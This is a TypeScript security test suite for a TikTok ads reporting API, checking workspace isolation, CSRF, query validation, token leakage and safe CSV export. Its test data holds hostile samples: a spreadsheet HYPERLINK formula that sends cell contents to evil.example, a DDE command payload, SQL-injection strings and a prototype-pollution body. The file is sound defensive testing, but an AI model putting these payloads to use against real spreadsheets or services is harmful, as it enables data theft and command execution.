import assert from 'node:assert/strict';
import { request as httpRequest, type IncomingMessage } from 'node:http';
import { createServer } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type {
  CampaignRow,
  ErrorResponse,
  ReportBreakdownResponse,
  ReportOverviewResponse,
  ReportStatusResponse,
} from '@whathead/contracts';
import { ReportExportRepository } from '../../repositories/report-export.repository.js';
import type { BreakdownRow } from '../../repositories/tiktok-report-queries.repository.js';
import { csvField } from '../../services/report-csv.js';
import { reportExportLimits } from '../../services/report-export.service.js';
import type { BrowserResponse, TestBrowser } from '../../testing/test-app.js';
import { connectionsPath, signUpWorkspace } from '../../testing/tiktok-flow.js';
import { connect, scenario, startTikTokTestKit, type TikTokTestKit } from '../../testing/tiktok-test-kit.js';

// The Reports routes and the Campaigns table's range, attacked as a hostile or careless client
// would: another workspace's ids, hostile query strings and bodies, names made to run as
// spreadsheet formulas, a failure in the middle of a CSV download, a stalled download, Sync now
// pressed many times at once.

const northwindUs = '7200000000000000011';
const cafeLumen = '7200000000000000021';
const start = Date.parse('2026-11-25T12:00:00Z');
const range = 'from=2026-11-18&to=2026-11-24';

/** Names TikTok accepts (no emoji, ≤ 512) that a spreadsheet would run, or that break naive CSV. */
const hostileCampaignNames = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
  'Sale, "Big" one\nwith a break',
];
const hostileAdGroupNames = ["+1+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1'];
/** Excel where `;` separates (much of Europe) starts a cell after each `;`, quotes or not. */
const hostileAdNames = ['Promo;=1+1;', 'Sale;@SUM(1+1)'];

const freePort = () =>
  new Promise<number>((resolve) => {
    const server = createServer().listen(0, '127.0.0.1', () => {
      const { port } = server.address() as { port: number };
      server.close(() => resolve(port));
    });
  });

/** RFC 4180: fields, quoted fields with doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index]!;
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        field += '"';
        index += 1;
      } else if (character === '"') quoted = false;
      else field += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      record.push(field);
      field = '';
    } else if (character === '\r' && text[index + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      index += 1;
    } else field += character;
  }
  assert.equal(quoted, false, 'no quoted field is left open');
  assert.equal(field + record.join(''), '', 'the file ends with CRLF');
  return records;
}

describe('the Reports API against hostile and careless clients', () => {
  let kit: TikTokTestKit;
  let port: number;
  let owner: { browser: TestBrowser; workspaceId: string };
  let other: { browser: TestBrowser; workspaceId: string };
  const responses: BrowserResponse[] = [];
  const base = () => `/api/workspaces/${owner.workspaceId}/reports`;
  const campaignsPath = () => `/api/workspaces/${owner.workspaceId}/campaigns`;
  const get = async <Body = ErrorResponse>(url: string, browser = owner.browser) => {
    const response = await browser.get<Body>(url);
    responses.push(response);
    return response;
  };
  const settle = async (browser: TestBrowser, workspaceId: string) => {
    for (let attempt = 0; attempt < 1200; attempt += 1) {
      const now = await browser.get<ReportStatusResponse>(`/api/workspaces/${workspaceId}/reports/status`);
      const accounts = now.body.accounts;
      if (
        accounts.length > 0 &&
        accounts.every((each) => each.state !== 'queued' && each.state !== 'syncing')
      ) {
        assert.ok(
          accounts.every((each) => each.state === 'ready'),
          JSON.stringify(accounts),
        );
        return;
      }
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    assert.fail('the report sync did not settle');
  };

  before(async () => {
    port = await freePort();
    const began = performance.now();
    kit = await startTikTokTestKit({
      emulator: { clock: { now: () => start + Math.round(performance.now() - began) } },
      environment: { HOST: '127.0.0.1', PORT: String(port), PUBLIC_URL: 'http://localhost:3000' },
      listen: true,
    });
    owner = await signUpWorkspace(kit.test, 'robust-owner@example.com');
    const connectionId = await connect(kit, owner.browser, owner.workspaceId, scenario.northwind);
    // Hostile names at TikTok before the first import, through TikTok's own API.
    const token = kit.emulator.control.tokens().at(-1)!.access_token;
    const rename = async (path: string, body: Record<string, string>) => {
      for (let attempt = 0; ; attempt += 1) {
        const answer = await fetch(`${kit.tiktokBaseUrl}${path}`, {
          method: 'POST',
          headers: { 'access-token': token, 'content-type': 'application/json' },
          body: JSON.stringify({ advertiser_id: northwindUs, ...body }),
        });
        const json = (await answer.json()) as { code: number; message: string };
        // The emulator's QPS limit is shared with the app's own calls of the Connect flow.
        if (json.code === 40100 && attempt < 20) {
          await new Promise((resolve) => setTimeout(resolve, 250));
          continue;
        }
        assert.equal(json.code, 0, `${path}: ${json.message}`);
        return;
      }
    };
    const truth = kit.emulator.control.truth();
    for (const [index, campaign] of truth.campaigns
      .filter((each) => each.advertiser_id === northwindUs)
      .entries())
      await rename('/campaign/update/', {
        campaign_id: campaign.campaign_id,
        campaign_name: hostileCampaignNames[index % hostileCampaignNames.length]!,
      });
    for (const [index, adGroup] of truth.adgroups
      .filter((each) => each.advertiser_id === northwindUs)
      .entries())
      await rename('/adgroup/update/', {
        adgroup_id: adGroup.adgroup_id,
        adgroup_name: hostileAdGroupNames[index % hostileAdGroupNames.length]!,
      });
    for (const [index, ad] of truth.ads
      .filter((each) => each.advertiser_id === northwindUs)
      .slice(0, hostileAdNames.length)
      .entries())
      await rename('/ad/update/', {
        adgroup_id: ad.adgroup_id,
        creatives: JSON.stringify([{ ad_id: ad.ad_id, ad_name: hostileAdNames[index]! }]),
      });
    const saved = await owner.browser.request(
      'PUT',
      `${connectionsPath(owner.workspaceId)}/${connectionId}/accounts`,
      { selectedAdvertiserIds: [northwindUs], defaultAdvertiserId: northwindUs },
    );
    assert.equal(saved.status, 200, saved.text);

    other = await signUpWorkspace(kit.test, 'robust-other@example.com');
    const otherConnection = await connect(kit, other.browser, other.workspaceId, scenario.bluebird);
    const savedOther = await other.browser.request(
      'PUT',
      `${connectionsPath(other.workspaceId)}/${otherConnection}/accounts`,
      { selectedAdvertiserIds: [cafeLumen], defaultAdvertiserId: cafeLumen },
    );
    assert.equal(savedOther.status, 200, savedOther.text);
    await settle(owner.browser, owner.workspaceId);
    await settle(other.browser, other.workspaceId);
    // The campaign mirror names the rows: wait for its import too.
    for (let attempt = 0; attempt < 400; attempt += 1) {
      const mirrored = await owner.browser.get<{ rows: unknown[] }>(`${campaignsPath()}?level=adgroup`);
      if (mirrored.body.rows.length >= 4) break;
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
  });
  after(async () => kit?.close());

  it('never reads another workspace’s accounts, campaigns or rows', async () => {
    for (const path of ['overview', 'breakdown', 'breakdown.csv']) {
      const foreign = await get(`${base()}/${path}?${range}&accounts=${cafeLumen}`);
      assert.equal(foreign.status, 404, `${path}: ${foreign.text}`);
    }
    const lumenCampaign = kit.emulator.control
      .truth()
      .campaigns.find((each) => each.advertiser_id === cafeLumen)!;
    const foreignCampaign = await get<ReportBreakdownResponse>(
      `${base()}/breakdown?${range}&level=ad&campaign=${lumenCampaign.campaign_id}`,
    );
    // Another workspace's campaign is one this workspace's accounts do not hold: not found, and
    // worded as for a campaign that does not exist at all.
    assert.equal(foreignCampaign.status, 404, foreignCampaign.text);
    const nowhere = await get(`${base()}/breakdown?${range}&level=ad&campaign=${'9'.repeat(20)}`);
    assert.equal(
      foreignCampaign.text.replace(lumenCampaign.campaign_id, 'X'),
      nowhere.text.replace('9'.repeat(20), 'X'),
    );
    const foreignTable = await get<{ rows: unknown[] }>(
      `${campaignsPath()}?${range}&accounts=${cafeLumen}&sort=spend`,
    );
    assert.deepEqual(foreignTable.body.rows, []);
    const outsider = await get(`${base()}/overview?${range}`, other.browser);
    assert.equal(outsider.status, 404);

    // The same TikTok ids in another workspace, with other numbers and names: never counted here.
    const mine = {
      overview: (await get<ReportOverviewResponse>(`${base()}/overview?${range}`)).body.totals,
      ads: (await get<ReportBreakdownResponse>(`${base()}/breakdown?${range}&level=ad`)).body.rows,
      csv: (await get(`${base()}/breakdown.csv?${range}&level=ad`)).text,
      table: (await get<{ rows: CampaignRow[] }>(`${campaignsPath()}?${range}&level=ad&sort=spend`)).body
        .rows,
    };
    const copy = (table: string, changes: string) =>
      kit.test.database.executeSql(
        `insert into ${table} select (jsonb_populate_record(null::${table}, to_jsonb(source) || ${changes})).*
         from ${table} as source where workspace_id = $1::uuid`,
        [owner.workspaceId, other.workspaceId],
      );
    const poison = `jsonb_build_object('workspace_id', $2::text, 'spend', 999999.5)`;
    for (const table of [
      'tiktok_report_ad_days',
      'tiktok_report_campaign_days',
      'tiktok_report_account_days',
      'tiktok_report_campaign_hours',
    ])
      await copy(table, poison);
    await copy(
      'tiktok_entities',
      `jsonb_build_object('workspace_id', $2::text, 'name', 'LEAKED', 'campaign_name', 'LEAKED', 'adgroup_name', 'LEAKED')`,
    );
    await copy('tiktok_report_accounts', `jsonb_build_object('workspace_id', $2::text)`);
    const theirs = await get<ReportOverviewResponse>(
      `${base().replace(owner.workspaceId, other.workspaceId)}/overview?${range}&accounts=${northwindUs}`,
      other.browser,
    );
    assert.equal(theirs.status, 200, theirs.text);
    assert.notDeepEqual(
      theirs.body.totals[0]!.current.spend,
      mine.overview[0]!.current.spend,
      'the copy differs',
    );

    assert.deepEqual(
      (await get<ReportOverviewResponse>(`${base()}/overview?${range}`)).body.totals,
      mine.overview,
    );
    assert.deepEqual(
      (await get<ReportBreakdownResponse>(`${base()}/breakdown?${range}&level=ad`)).body.rows,
      mine.ads,
    );
    const csv = (await get(`${base()}/breakdown.csv?${range}&level=ad`)).text;
    assert.equal(csv, mine.csv);
    assert.doesNotMatch(csv, /LEAKED|999999/);
    const table = (await get<{ rows: CampaignRow[] }>(`${campaignsPath()}?${range}&level=ad&sort=spend`)).body
      .rows;
    assert.deepEqual(table, mine.table);
  });

  it('refuses state changes without the CSRF token or from another site', async () => {
    for (const [method, path, body] of [
      ['POST', 'sync', {}],
      ['PUT', 'settings', { restatementDays: 7, hourlyRetentionDays: 30 }],
    ] as const) {
      for (const headers of [
        { 'x-csrf-token': '' } as Record<string, string>,
        { 'x-csrf-token': 'forged.token' },
        { origin: 'https://evil.example' },
      ]) {
        const refused = await owner.browser.request<ErrorResponse>(
          method,
          `${base()}/${path}`,
          body,
          headers,
        );
        assert.equal(refused.status, 403, `${method} ${path} ${JSON.stringify(headers)}: ${refused.text}`);
        assert.equal(refused.body.error.code, 'csrf_rejected');
      }
    }
  });

  it('answers hostile query strings with a 400 that names the field', async () => {
    const many = (count: number) => Array.from({ length: count }, () => northwindUs).join(',');
    const cases: [string, string, string][] = [
      ['overview', 'from=2026-11-18&from=2026-11-19&to=2026-11-24', 'from'],
      ['overview', 'from[]=2026-11-18&to=2026-11-24', 'from'],
      ['overview', 'from=&to=2026-11-24', 'from'],
      ['overview', 'to=2026-11-24', 'from'],
      ['overview', `from=${encodeURIComponent('２０２６-11-18')}&to=2026-11-24`, 'from'],
      ['overview', `from=${encodeURIComponent('٢٠٢٦-11-18')}&to=2026-11-24`, 'from'],
      ['overview', 'from=2026-11-18%00&to=2026-11-24', 'from'],
      ['overview', 'from=2026-11-18T00:00&to=2026-11-24', 'from'],
      ['overview', 'from=-2026-11-18&to=2026-11-24', 'from'],
      ['overview', `from=2026-11-18&to=${'9'.repeat(10_000)}`, 'to'],
      ['overview', 'from=2026-02-29&to=2026-03-01', 'from'],
      ['overview', 'from=2026-11-24&to=2026-11-18', 'to'],
      ['overview', 'from=2025-11-24&to=2026-11-25', 'to'],
      ['overview', 'from=2026-10-25&to=2026-11-25&granularity=hour', 'granularity'],
      ['overview', `${range}&granularity=hour&adgroup=1`, 'granularity'],
      ['overview', `${range}&granularity=HOUR`, 'granularity'],
      ['overview', `${range}&compare=1`, 'compare'],
      ['overview', `${range}&accounts=${many(51)}`, 'accounts'],
      ['overview', `${range}&accounts=${many(5000)}`, 'accounts'],
      ['overview', `${range}&accounts=${northwindUs}&accounts=${northwindUs}`, 'accounts'],
      ['overview', `${range}&accounts=abc`, 'accounts.0'],
      ['overview', `${range}&accounts=,`, 'accounts.0'],
      ['overview', `${range}&accounts=${'1'.repeat(21)}`, 'accounts.0'],
      ['overview', `${range}&campaign=-1`, 'campaign'],
      ['overview', `${range}&campaign=1e5`, 'campaign'],
      ['overview', `${range}&campaign=%E0%A4%A`, 'campaign'],
      ['breakdown', `${range}&level=campaigns`, 'level'],
      ['breakdown', `${range}&sort=__proto__`, 'sort'],
      ['breakdown', `${range}&sort=toString`, 'sort'],
      ['breakdown', `${range}&direction=desc;drop`, 'direction'],
      ['breakdown', `${range}&q=a%00b`, 'q'],
      ['breakdown', `${range}&q=a%0Ab`, 'q'],
      ['breakdown', `${range}&q=${'a'.repeat(201)}`, 'q'],
      ['breakdown', `${range}&q=a&q=b`, 'q'],
      ['breakdown.csv', `${range}&level=ads`, 'level'],
      ['breakdown.csv', 'from=2026-11-18', 'to'],
    ];
    for (const [path, query, field] of cases) {
      const response = await get(`${base()}/${path}?${query}`);
      assert.equal(
        response.status,
        400,
        `${path}?${query.slice(0, 120)}: ${response.status} ${response.text}`,
      );
      const paths = response.body.error.details?.issues?.map((issue) => issue.path) ?? [];
      assert.ok(
        paths.includes(field),
        `${path}?${query.slice(0, 120)}: names ${field}, got ${JSON.stringify(paths)}`,
      );
    }
    for (const query of [`${range}&__proto__=x`, `${range}&constructor=1`, `${range}&_=123`]) {
      const response = await get(`${base()}/overview?${query}`);
      assert.equal(response.status, 400, response.text);
      assert.match(response.text, /Unrecognized key/);
    }
    for (const [query, field] of [
      ['from=2026-11-18', 'to'],
      ['from=2025-11-24&to=2026-11-25', 'to'],
      ['from=2026-11-25&to=2026-11-24', 'to'],
      ['sort=spend', 'sort'],
      ['from=2026-11-18&from=2026-11-19&to=2026-11-24', 'from'],
    ] as const) {
      const response = await get(`${campaignsPath()}?${query}`);
      assert.equal(response.status, 400, `${query}: ${response.text}`);
      assert.ok(
        response.body.error.details?.issues?.some((issue) => issue.path === field),
        response.text,
      );
    }
  });

  it('reads ranges at the edges of the calendar and of the limits', async () => {
    for (const query of [
      'from=2028-02-29&to=2028-03-01',
      'from=2025-11-25&to=2026-11-25&compare=true',
      'from=2026-10-26&to=2026-11-25&granularity=hour&compare=true',
      'from=9999-12-25&to=9999-12-31&compare=true',
      'from=9999-12-31&to=9999-12-31&granularity=hour',
      `${range}&accounts=${northwindUs},${northwindUs}`,
    ]) {
      const response = await get<ReportOverviewResponse>(`${base()}/overview?${query}`);
      assert.equal(response.status, 200, `${query}: ${response.text}`);
    }
    const unheld = await get<ErrorResponse>(`${base()}/overview?${range}&campaign=${'9'.repeat(20)}`);
    assert.equal(unheld.status, 404, unheld.text);
    assert.match(unheld.body.error.message, /^Campaign 9{20} does not exist/);
    const once = await get<ReportOverviewResponse>(`${base()}/overview?${range}`);
    const twice = await get<ReportOverviewResponse>(
      `${base()}/overview?${range}&accounts=${northwindUs},${northwindUs}`,
    );
    assert.deepEqual(twice.body.totals, once.body.totals, 'an account named twice is counted once');
    const hours = await get<ReportOverviewResponse>(
      `${base()}/overview?from=2026-11-25&to=2026-11-26&granularity=hour`,
    );
    const series = hours.body.totals[0]!.series;
    assert.equal(series.length, 48);
    // 12:00 UTC is 07:00 in New York: later hours have not happened, and are unknown, not zero.
    assert.ok(series.slice(8).every((point) => point.metrics.impressions === null));
  });

  it('searches for %, _ and \\ as letters, and SQL as text', async () => {
    const all = await get<ReportBreakdownResponse>(`${base()}/breakdown?${range}&level=adgroup`);
    assert.equal(all.body.rows.length, 4);
    for (const q of ['%', '_', '\\', '%%%%', "'; drop table users; --", "' OR '1'='1", '\u202e', '🎉'].map(
      encodeURIComponent,
    )) {
      const response = await get<ReportBreakdownResponse>(
        `${base()}/breakdown?${range}&level=adgroup&q=${q}`,
      );
      assert.equal(response.status, 200, response.text);
      assert.deepEqual(response.body.rows, [], `q=${q}`);
    }
    const spaces = await get<ReportBreakdownResponse>(`${base()}/breakdown?${range}&level=adgroup&q=%20%20`);
    assert.equal(spaces.body.rows.length, 4, 'a blank search is no search');
    const formula = await get<ReportBreakdownResponse>(
      `${base()}/breakdown?${range}&level=campaign&q=${encodeURIComponent('=hyper')}`,
    );
    assert.equal(formula.body.rows.length, 1);
  });

  it('exports hostile names as text a spreadsheet will not run, in well-formed CSV', async () => {
    for (const level of ['campaign', 'adgroup', 'ad']) {
      const response = await get(`${base()}/breakdown.csv?${range}&level=${level}`);
      assert.equal(response.status, 200);
      assert.equal(response.headers['x-content-type-options'], 'nosniff');
      assert.equal(response.headers['cache-control'], 'no-store');
      const records = parseCsv(response.text);
      const header = records.findIndex((record) => record[0] === 'Ad account ID');
      const rows = records.slice(header + 1);
      assert.ok(rows.length > 0);
      for (const row of rows) assert.equal(row.length, records[header]!.length, JSON.stringify(row));
      for (const cell of records.flat())
        assert.doesNotMatch(cell, /^[=+\-@\t\r\n]/, `a cell a spreadsheet would run: ${cell}`);
      const text = rows.flat();
      assert.ok(text.includes(`'${hostileCampaignNames[0]}`), 'the formula is kept, as text');
      assert.ok(
        text.includes('Sale, "Big" one with a break'),
        'commas, quotes and a line break (as a space) survive',
      );
      if (level === 'adgroup')
        for (const name of hostileAdGroupNames)
          assert.ok(text.includes(`'${name.replace('\t', '')}`), `${name} kept as text`);
      if (level === 'ad') {
        assert.ok(text.includes("Promo;'=1+1;"), 'the formula after a ; is kept, as text');
        assert.ok(text.includes("Sale;'@SUM(1+1)"));
      }
      // As Excel reads the file where `;` separates: every `;` starts a cell, and a quote counts
      // only at the start of its own cell.
      for (const line of response.text.split('\r\n'))
        for (const cell of line.split(';').slice(1))
          assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a ;-separated spreadsheet would run: ${cell}`);
      // Ids are quoted text, whole: never a number a spreadsheet rounds, nor a formula.
      const idColumns = records[header]!.flatMap((name, index) => (name.endsWith(' ID') ? [index] : []));
      assert.ok(idColumns.length >= 2);
      for (const row of rows) for (const index of idColumns) assert.match(row[index]!, /^\d{1,19}$/);
      for (const line of response.text.split('\r\n').slice(header + 1, -1))
        assert.match(line, new RegExp(`^"${northwindUs}",`), line);
    }
  });

  it('writes no field whose text a spreadsheet could run, with either separator', () => {
    const cases: [string | number | null | { id: string | null }, string][] = [
      ['Promo;=1+1', `"Promo;'=1+1"`],
      ['x;"=1+1;y', `"x;'""=1+1;y"`],
      ['"=1+1', `"'""=1+1"`],
      ['Promo;=1+1;', `"Promo;'=1+1;"`],
      ['a;+b;-c;@d', `"a;'+b;'-c;'@d"`],
      ['Sale; -20%', '"Sale; -20%"'],
      ['Two;words', '"Two;words"'],
      ['=1+1', "'=1+1"],
      ['-20%', "'-20%"],
      ['\t=1+1', `'\t'=1+1`],
      ['line\n=1+1', `"line\n'=1+1"`],
      ['Sale, "Big" one', '"Sale, ""Big"" one"'],
      ['Plain', 'Plain'],
      [12.5, '12.5'],
      [-3, '-3'],
      [null, ''],
      [{ id: '7200000000000000011' }, '"7200000000000000011"'],
      [{ id: null }, ''],
    ];
    for (const [value, written] of cases) assert.equal(csvField(value), written, JSON.stringify(value));
  });

  const cookieOf = (browser: TestBrowser) =>
    [...browser.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  const runningExports = async () =>
    (
      (await kit.test.database.executeSql('select count(*)::int as count from report_exports')).rows[0] as {
        count: number;
      }
    ).count;
  const waitFor = async (what: string, condition: () => boolean | Promise<boolean>) => {
    for (let attempt = 0; attempt < 600; attempt += 1) {
      if (await condition()) return;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    assert.fail(`${what} did not happen`);
  };

  it('breaks a download off when a page fails midway, never ending it as a whole file', async () => {
    const { reportExports } = kit.test.whathead.services;
    const original = ReportExportRepository.prototype.page;
    ReportExportRepository.prototype.page = async function (exportId, position, limit) {
      if (position > 0) throw new Error('injected: the database went away');
      return original.call(this, exportId, position, limit);
    };
    reportExports.useLimits({ pageRows: 2 });
    try {
      await assert.rejects(
        kit.test.app.inject({
          method: 'GET',
          url: `${base()}/breakdown.csv?${range}&level=ad`,
          headers: { cookie: cookieOf(owner.browser) },
        }),
        /destroyed before completion/,
      );
    } finally {
      ReportExportRepository.prototype.page = original;
      reportExports.useLimits({ pageRows: reportExportLimits.pageRows });
    }
    assert.ok(
      kit.test.logs.some((line) => line.includes('injected: the database went away')),
      'the failure is logged',
    );
    await waitFor('the export’s release', async () => (await runningExports()) === 0);
    assert.equal((await get(`${base()}/breakdown.csv?${range}`)).status, 200, 'the next download is served');
  });

  it('drops a download whose client stops reading, having read only what fills the socket', async () => {
    const { reportExports } = kit.test.whathead.services;
    const original = {
      fill: ReportExportRepository.prototype.fillWithBreakdown,
      page: ReportExportRepository.prototype.page,
    };
    let pages = 0;
    // A million rows with long names, made up page by page from the export's first real row.
    ReportExportRepository.prototype.fillWithBreakdown = async function (exportId, scope, view) {
      await original.fill.call(this, exportId, scope, view);
      return 1_000_000;
    };
    ReportExportRepository.prototype.page = async function (exportId, position, limit) {
      pages += 1;
      const [row] = await original.page.call(this, exportId, 0, 1);
      if (!row) return [];
      return Array.from({ length: limit }, (_, index): BreakdownRow => ({
        ...row,
        id: String(position + index),
        name: `An ad name long enough to fill a page of a download ${'x'.repeat(500)} ${index}`,
      }));
    };
    reportExports.useLimits({ stalledAfterMilliseconds: 200 });
    try {
      const response = await new Promise<IncomingMessage>((resolve, reject) => {
        const request = httpRequest(
          {
            host: '127.0.0.1',
            port,
            path: `${base()}/breakdown.csv?${range}&level=ad`,
            headers: { cookie: cookieOf(owner.browser) },
          },
          (answer) => {
            answer.pause(); // the client stops reading, and stays
            resolve(answer);
          },
        );
        request.on('error', reject);
        request.end();
      });
      assert.equal(response.statusCode, 200);
      await waitFor('the stalled download’s drop', () =>
        kit.test.logs.some((line) => line.includes('dropped a CSV download whose client stopped reading')),
      );
      await waitFor('the export’s release', async () => (await runningExports()) === 0);
      const atDrop = pages;
      // Only what fills the socket's buffers is read ahead, never the whole export.
      assert.ok(atDrop < 100, `pages read for a stalled download: ${atDrop}`);
      // The client reads on: what was sent arrives, and the file is cut off, never ended whole.
      const ended = await new Promise<boolean>((resolve) => {
        response.on('error', () => resolve(response.complete));
        response.on('close', () => resolve(response.complete));
        response.resume();
      });
      assert.equal(ended, false, 'the download ends unfinished');
      assert.ok(pages <= atDrop + 1, `pages read after the drop: ${pages - atDrop}`);
    } finally {
      ReportExportRepository.prototype.fillWithBreakdown = original.fill;
      ReportExportRepository.prototype.page = original.page;
      reportExports.useLimits({ stalledAfterMilliseconds: reportExportLimits.stalledAfterMilliseconds });
    }
  });

  it('queues one sync however often Sync now is pressed at once', async () => {
    const pressed = await Promise.all(
      Array.from({ length: 20 }, () => owner.browser.post(`${base()}/sync`, {})),
    );
    assert.deepEqual(new Set(pressed.map((response) => response.status)), new Set([202]));
    const { rows } = await kit.test.database.executeSql(
      `select state from pgboss.job where name = 'tiktok-report-sync' and singleton_key = $1
         and state in ('created', 'retry', 'active')`,
      [`${owner.workspaceId}:${northwindUs}`],
    );
    const states = (rows as { state: string }[]).map((row) => row.state);
    assert.ok(states.filter((state) => state !== 'active').length <= 1, JSON.stringify(states));
    assert.ok(states.filter((state) => state === 'active').length <= 1, JSON.stringify(states));
    await settle(owner.browser, owner.workspaceId);
  });

  it('takes report settings only as whole days in range, from managers', async () => {
    const refuse = async (body: unknown, field: string) => {
      const response = await owner.browser.put<ErrorResponse>(`${base()}/settings`, body);
      assert.equal(response.status, 400, `${JSON.stringify(body)}: ${response.text}`);
      const paths = response.body.error.details?.issues?.map((issue) => issue.path) ?? [];
      assert.ok(
        paths.includes(field),
        `${JSON.stringify(body)}: names ${field}, got ${JSON.stringify(paths)}`,
      );
    };
    await refuse({ restatementDays: '7', hourlyRetentionDays: 30 }, 'restatementDays');
    await refuse({ restatementDays: 7.5, hourlyRetentionDays: 30 }, 'restatementDays');
    await refuse({ restatementDays: 0, hourlyRetentionDays: 30 }, 'restatementDays');
    await refuse({ restatementDays: 29, hourlyRetentionDays: 30 }, 'restatementDays');
    await refuse({ restatementDays: -7, hourlyRetentionDays: 30 }, 'restatementDays');
    await refuse({ restatementDays: 1e308, hourlyRetentionDays: 30 }, 'restatementDays');
    await refuse({ restatementDays: true, hourlyRetentionDays: 30 }, 'restatementDays');
    await refuse({ restatementDays: { $gt: 1 }, hourlyRetentionDays: 30 }, 'restatementDays');
    await refuse({ restatementDays: 7, hourlyRetentionDays: 2 }, 'hourlyRetentionDays');
    await refuse({ restatementDays: 7, hourlyRetentionDays: 91 }, 'hourlyRetentionDays');
    await refuse({ restatementDays: 7 }, 'hourlyRetentionDays');
    await refuse(null, 'restatementDays');
    await refuse({ restatementDays: 7, hourlyRetentionDays: 30, workspaceId: other.workspaceId }, '');
    await refuse([7, 30], '');
    const unreadable = await kit.test.app.inject({
      method: 'PUT',
      url: `${base()}/settings`,
      headers: {
        cookie: [...owner.browser.cookies].map(([name, value]) => `${name}=${value}`).join('; '),
        'x-csrf-token': owner.browser.csrfToken,
        'content-type': 'application/json',
      },
      payload: '{"restatementDays":7,"hourlyRetentionDays":30,"__proto__":{"polluted":true}}',
    });
    assert.equal(unreadable.statusCode, 400, unreadable.body);
    const saved = await owner.browser.put<ReportStatusResponse>(`${base()}/settings`, {
      restatementDays: 28,
      hourlyRetentionDays: 90,
    });
    assert.equal(saved.status, 200, saved.text);
    assert.equal(saved.body.restatementDays, 28);
    assert.equal(saved.body.hourlyRetentionDays, 90);
  });

  it('never sends or logs a TikTok token', () => {
    const tokens = kit.emulator.control.tokens().map((token) => token.access_token);
    assert.ok(tokens.length >= 2);
    for (const token of tokens) {
      assert.ok(!responses.some((response) => response.text.includes(token)), 'a token in a response');
      assert.ok(!kit.test.logs.some((line) => line.includes(token)), 'a token in the logs');
    }
  });

  // PostgreSQL has no year 0: a date before 1970 is refused, and so is a comparison reaching
  // back before it.
  for (const [label, url] of [
    ['overview', '/reports/overview?from=0000-01-01&to=0000-01-07'],
    ['overview compared into 1969', '/reports/overview?from=1970-01-01&to=1970-01-07&compare=true'],
    ['breakdown', '/reports/breakdown?from=0000-01-01&to=0000-01-07'],
    ['campaigns', '/campaigns?from=0000-01-01&to=0000-01-07'],
    ['breakdown.csv', '/reports/breakdown.csv?from=0000-01-01&to=0000-01-07'],
  ] as const)
    it(`refuses a range in year 0 (${label}) with a 400, not a 500 or a broken-off download`, async () => {
      const response = await kit.test.app.inject({
        method: 'GET',
        url: `/api/workspaces/${owner.workspaceId}${url}`,
        headers: {
          cookie: [...owner.browser.cookies].map(([name, value]) => `${name}=${value}`).join('; '),
        },
      });
      assert.equal(response.statusCode, 400, response.body);
      assert.match(response.body, /"path":"(from|to|compare)"/);
    });
});
